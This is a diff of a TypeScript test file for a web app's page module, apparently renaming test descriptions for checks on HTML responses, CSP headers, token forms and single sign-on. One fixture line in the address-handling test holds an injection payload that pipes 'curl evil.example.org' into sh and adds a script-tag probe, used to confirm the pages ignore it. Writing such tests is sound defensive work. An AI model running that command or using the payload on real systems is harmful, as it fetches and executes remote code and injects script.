@@ -8,7 +8,7 @@ import { PageModule } from './page.module.js';
 const BROWSER = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8';
 const TOKEN = 'k3Jq_8vT-2mNw5xYz0aBcDeFgHiJkLmNoPqRsTuVwXy';
 
-describe('pages for people', () => {
+describe('PageModule', () => {
   let app: INestApplication;
   beforeAll(async () => {
     app = await createEdgeApp({ controllers: [], imports: [PageModule] });
@@ -16,7 +16,7 @@ describe('pages for people', () => {
   afterAll(() => app.close());
   const get = (path: string, accept = BROWSER) => request(app.getHttpServer()).get(path).set('Accept', accept);
 
-  it.each(['/', '/billing', '/anomaly/12', ...Object.values(CONSOLE_PATHS)])('answers %s with HTML', async (path) => {
+  it.each(['/', '/billing', '/anomaly/12', ...Object.values(CONSOLE_PATHS)])('returns HTML for %s', async (path) => {
     const answer = await get(path);
     expect(answer.status).toBe(200);
     expect(answer.headers).toMatchObject({
@@ -29,7 +29,7 @@ describe('pages for people', () => {
     expect(answer.headers['content-security-policy']).toMatch(/^default-src 'none'; .*frame-ancestors 'none'$/);
   });
 
-  it('has what alerts lead to: acknowledging and training', async () => {
+  it('offers forms to acknowledge and train from an alert', async () => {
     const { text: anomaly } = await get('/anomaly/7120');
     expect(anomaly).toContain('action="/api/anomaly/7120/acknowledge"');
     expect(anomaly).toContain('action="/api/anomaly/train"');
@@ -42,7 +42,7 @@ describe('pages for people', () => {
   });
 
   it.each(['application/json', '*/*', 'application/json, text/html', 'text/plain'])(
-    'tells programs that accept %s at / where everything is, in one line',
+    'returns the addresses of the product in one line of text for programs that accept %s at /',
     async (accept) => {
       const answer = await get('/', accept).expect(200);
       expect(answer.headers).toMatchObject({
@@ -60,7 +60,7 @@ describe('pages for people', () => {
     },
   );
 
-  it('answers programs as an unknown path, everywhere else, and nothing below the API or the ingest paths', async () => {
+  it('returns a JSON 404 for programs on other paths, and for browsers below the API and ingest paths', async () => {
     for (const accept of ['application/json', '*/*', 'application/json, text/html']) {
       const answer = await get('/login', accept);
       expect([answer.status, answer.type]).toEqual([404, 'application/json']);
@@ -72,7 +72,7 @@ describe('pages for people', () => {
     expect([post.status, post.type]).toEqual([404, 'application/json']);
   });
 
-  it('runs the script and the style of the page by their hashes, and nothing else', async () => {
+  it('allows only the script and the style of the page, by their hashes', async () => {
     const { text, headers } = await get('/login');
     const hashOf = (code: string | undefined) =>
       `'sha256-${createHash('sha256')
@@ -85,7 +85,7 @@ describe('pages for people', () => {
     expect(text).not.toMatch(/ on\w+=| style=|javascript:/);
   });
 
-  it('loads nothing, and names no host but its own', async () => {
+  it('returns pages that load nothing, and name no host but their own', async () => {
     for (const path of ['/', ...Object.values(CONSOLE_PATHS)]) {
       const { text } = await get(`${path}?token=${TOKEN}`);
       const hosts = [...text.matchAll(/\bhttps?:\/\/([^/\s'"<&]+)/g)].map(([, host]) => host);
@@ -94,7 +94,7 @@ describe('pages for people', () => {
     }
   });
 
-  it('has the token of the link in a form for the call behind it, and in a line to copy', async () => {
+  it('puts the token of the link into a form and into a command to copy', async () => {
     const { text } = await get(`${CONSOLE_PATHS.verify}?email=ann%40example.org&token=${TOKEN}`);
     expect(text).toContain('<form method="post" action="/api/signup/verify"');
     expect(text).toContain(`<input name="verification_token" type="hidden" value="${TOKEN}">`);
@@ -107,7 +107,7 @@ describe('pages for people', () => {
     expect(login).toContain(TOKEN);
   });
 
-  it('takes nothing else from an address: no markup, no shell, no message', async () => {
+  it('ignores markup, shell commands and messages in the address', async () => {
     const foreign = encodeURIComponent(`'; curl evil.example.org | sh #"><script>alert(1)</script>`);
     for (const path of ['/', ...Object.values(CONSOLE_PATHS)]) {
       const names = ['token', 'email', 'code', 'error', 'message'];
@@ -117,7 +117,7 @@ describe('pages for people', () => {
     }
   });
 
-  it('leads to the single sign-on where there is one', async () => {
+  it('links to single sign-on if it is configured', async () => {
     expect((await get('/login')).text).not.toContain('/login/sso');
     const env = { OIDC_ISSUER: 'https://id.example.org', OIDC_CLIENT_ID: 'plumbline' };
     const other = await createEdgeApp({
@@ -130,7 +130,7 @@ describe('pages for people', () => {
     expect(text).toContain('<a href="https://plumbline.example.org/api/login/sso">Work &amp; more</a>');
   });
 
-  it('names a refusal of the single sign-on by its code', async () => {
+  it('shows an error of single sign-on by its code', async () => {
     expect((await get('/login?error=sso_failed&message=x')).text).toContain(
       'The login at the identity provider failed',
     );
